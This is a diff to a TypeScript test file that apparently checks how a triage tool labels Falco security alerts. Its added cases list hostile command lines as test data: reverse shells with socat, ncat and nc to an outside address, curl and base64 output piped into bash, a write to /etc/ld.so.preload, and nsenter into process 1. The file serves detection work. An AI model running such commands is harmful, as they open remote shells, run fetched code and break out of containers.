@@ -10,7 +10,9 @@ describe("a report on a run of Falco's event generator", () => {
 
   test('says that it is very likely a self-test, how sure that is, and why not certain', () => {
     expect(verdict).toContain('Very likely a Falco self-test with the event generator, and benign if somebody ran it.')
-    expect(verdict).toMatch(/Confidence: high, because two marks .* nothing speaks against it; not certain, because the name .* can be forged/)
+    expect(verdict).toMatch(
+      /Confidence: high, because two marks .* nothing speaks against it; not certain, because the name .* can be forged/,
+    )
   })
 
   test('shows the marks that it stands on: the file, the parent, and the action made for this rule', () => {
@@ -199,6 +201,83 @@ describe('a report says what the fields support', () => {
     expect(assess({ fields })).toContain(words)
   })
 
+  test.each([
+    'socat TCP:198.51.100.184:4444 EXEC:/bin/bash,pty,stderr,setsid',
+    'ncat --exec=/bin/sh 198.51.100.9 4444',
+    'nc 198.51.100.9 4444 -c bash',
+    'nc -e /bin/sh 198.51.100.9 4444',
+    'bash -c curl "https://198.51.100.9/x?a=1&b=2" | bash',
+    'sh -c echo aWQ= | base64 -d | bash',
+    'sh -c echo /tmp/x.so >> /etc/ld.so.preload',
+    'nsenter --target 1 --mount --pid -- bash',
+    'nsenter -t 1 -m sh',
+  ])('the command line %s in a container is suspicious', (line) => {
+    expect(reported({ fields: { 'proc.cmdline': line } }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
+  })
+
+  test.each([
+    'nc -z db 5432',
+    'curl https://example.com/x?a=1&b=2 -o x',
+    'base64 -d key.b64',
+    'socat TCP-LISTEN:80,fork TCP:web:80',
+    'nsenter -t 12 -n ip a',
+  ])('the command line %s is not', (line) => {
+    expect(reported({ fields: { 'proc.cmdline': line } }).verdict.label).toBe('not settled')
+  })
+
+  test('to enter the namespaces of process 1 from the host itself is told and does not settle it', () => {
+    const fields = { 'container.id': 'host', 'proc.cmdline': 'nsenter --target 1 --mount -- bash' }
+    expect(observe({ fields })).toContain('asks nsenter for the namespaces of process 1. Falco saw it outside any container')
+    expect(assess({ fields })).toContain('because the fields looked at do not settle it')
+  })
+
+  test('a shell whose streams lead to a public address is suspicious, one that talks inside is not', () => {
+    const joinedTo = (far: string) =>
+      reported({ fields: { 'evt.type': 'dup2', 'proc.name': 'bash', 'fd.name': `10.0.0.4:50000->${far}:4444` } }).verdict.label
+    expect([joinedTo('198.51.100.9'), joinedTo('10.0.0.9')]).toEqual(['suspicious', 'not settled'])
+  })
+
+  test('keys for logging in that no keeper of keys writes, and the preload list, are suspicious', () => {
+    const wrote = (name: string, path: string, flags = 'O_WRONLY') =>
+      reported({ fields: { 'evt.type': 'openat', 'proc.name': name, 'fd.name': path, 'evt.arg.flags': flags } }).verdict.label
+    const keys = '/home/ops/.ssh/authorized_keys'
+    expect([wrote('bash', keys), wrote('google_guest_ag', keys), wrote('bash', keys, 'O_RDONLY')]).toEqual([
+      'suspicious',
+      'not settled',
+      'not settled',
+    ])
+    expect([wrote('cp', '/etc/ld.so.preload'), wrote('cp', '/etc/ld.so.preload', 'O_RDONLY')]).toEqual(['suspicious', 'not settled'])
+  })
+
+  test("a bucket opened to all of Google's users is suspicious and exposed", () => {
+    const delta = '[{"action":"ADD","role":"roles/storage.objectViewer","member":"allUsers"}]'
+    const rule = { rule: 'GCP Bucket configured to be public', source: 'gcp_auditlog', tags: [] }
+    const report = reportOn(bareEvent(rule, { 'gcp.user': 'ana', 'gcp.policyDelta': delta }))
+    expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
+    expect(textOf(report, 'Assessment')).toContain('Exposure, if the call succeeded: a policy gives something to everybody')
+  })
+
+  test('an exec into a pod by a service account is suspicious, by a person not settled', () => {
+    const into = (user: string) =>
+      reportOn(
+        bareEvent(
+          { rule: 'Attach/Exec Pod', source: 'k8s_audit', tags: [] },
+          { 'ka.user.name': user, 'ka.target.subresource': 'exec', 'ka.target.resource': 'pods' },
+        ),
+      ).verdict.label
+    expect([into('system:serviceaccount:argocd:argocd-application-controller'), into('ana')]).toEqual(['suspicious', 'not settled'])
+  })
+
+  test('sshd with a library named like the backdoored xz is exposed and suspicious until its version is known', () => {
+    const fields = { 'evt.type': 'openat', 'proc.name': 'sshd', 'fd.name': '/usr/lib/liblzma.so.5.6.1', 'container.id': 'host' }
+    const rule = 'Backdoored library loaded into SSHD (CVE-2024-3094)'
+    expect(reported({ rule, fields }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
+    expect(observe({ rule, fields })).toContain('a library file named like the backdoored releases 5.6.0 and 5.6.1 of xz')
+    expect(observe({ rule, fields })).not.toContain('No vulnerability')
+    expect(textOf(reported({ rule, fields }), 'Mitigation')).toContain('Ask whoever owns the host')
+    expect(textOf(reported({ rule, fields }), 'Conclusion')).toContain('ask whoever owns the host')
+  })
+
   test('a rule that hardly ever fires by mistake is suspicious by itself, with less confidence', () => {
     const report = reportOn(bareEvent({ rule: 'CloudTrail Logging Disabled', source: 'aws_cloudtrail', tags: [] }, { 'ct.user': 'ana' }))
     expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'low' })
@@ -260,7 +339,7 @@ describe('a report says where it knows nothing', () => {
     expect(textOf(report, 'Summary')).toContain("The event's text is no longer kept (retain in falconer.yml), so little can be said of it")
     expect(textOf(report, 'Verdict')).toContain("low either way, because the event's text is no longer kept.")
     expect(textOf(report, 'ATT&CK')).toContain("This is by the rule's tags")
-    expect(textOf(report)).not.toMatch(/no output fields|carries none|no field tells/)
+    expect(textOf(report)).not.toMatch(/no output fields|carries none|the fields looked at/)
     expect(problemsIn(report)).toEqual([])
   })
 
